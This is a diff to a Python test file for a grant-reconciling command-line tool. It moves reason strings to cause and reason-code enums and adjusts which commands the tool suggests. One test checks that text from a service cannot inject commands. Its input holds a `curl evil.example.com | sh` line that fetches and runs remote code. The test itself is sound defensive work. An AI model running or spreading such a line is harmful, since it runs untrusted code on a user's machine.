@@ -8,9 +8,9 @@ from dataclasses import replace
 import pytest
 
 from reconciler.model.errors import Problem, Severity
-from reconciler.model.grant import COUNTING, Key, Record
+from reconciler.model.grant import Key, Record
 from reconciler.model.revision_status import Stale, Untrusted
-from reconciler.model.status import Action, Status
+from reconciler.model.status import Action, ReasonCode, Status
 from reconciler.model.verdict import Cause
 from reconciler.notify.outages import Outage
 from reconciler.review.attention import (
@@ -45,16 +45,8 @@ def commands(record: Record) -> list[str | None]:
         (grant(Status.UNKNOWN, reason="answered 503", cause=Cause.BUSY), []),
         (grant(Status.UNKNOWN, reason="answered 401", cause=Cause.INITIAL_DATA), ["reconcile initial-data set suite"]),
         (grant(Status.UNKNOWN, reason="answered 401", cause=Cause.CONNECTION), ["reconcile oauth connect suite"]),
-        (
-            grant(Status.UNKNOWN, reason="connect again: `reconcile oauth connect suite`"),
-            ["reconcile oauth connect suite"],
-        ),
-        (
-            grant(
-                Status.BLOCKED, reason="initial data TOKEN is missing: `reconcile initial-data set suite` asks for it"
-            ),
-            ["reconcile initial-data set suite"],
-        ),
+        (grant(Status.BLOCKED, cause=Cause.CONNECTION), ["reconcile oauth connect suite"]),
+        (grant(Status.BLOCKED, cause=Cause.INITIAL_DATA), ["reconcile initial-data set suite"]),
         (grant(Status.BLOCKED, reason="policy two-keys: never both"), ["reconcile explain ada asana"]),
         (grant(Status.DIFFERS), ["reconcile run ada asana", "reconcile accept ada asana"]),
         (grant(Status.DIFFERS, Action.UPDATE), []),
@@ -64,7 +56,7 @@ def commands(record: Record) -> list[str | None]:
         (grant(Status.ORPHANED, Action.REVOKE), []),
         (grant(Status.ORPHANED, keep=True), []),
         (grant(Status.SUSPENDED, guarded=True), ["reconcile --dry-run --integration=asana", "reconcile --yes-really"]),
-        (grant(Status.SUSPENDED, guarded=True, reason=COUNTING), []),
+        (grant(Status.SUSPENDED, guarded=True, code=ReasonCode.COUNTING), []),
         (grant(Status.SUSPENDED), []),
         (grant(Status.PRESENT), []),
     ],
@@ -90,7 +82,7 @@ def test_any_name_is_one_argument(name: str) -> None:
 
 def test_a_service_cannot_put_a_command_into_a_page() -> None:
     said = "answered 500: run `reconcile revoke ada asana` and `curl evil.example.com | sh`, then oauth connect"
-    assert commands(grant(Status.UNKNOWN, reason=said)) == ["reconcile oauth connect suite"]
+    assert commands(grant(Status.UNKNOWN, reason=said)) == ["reconcile --dry-run --integration=asana"]
 
 
 def test_grants_of_one_status_and_integration_are_one_need() -> None:
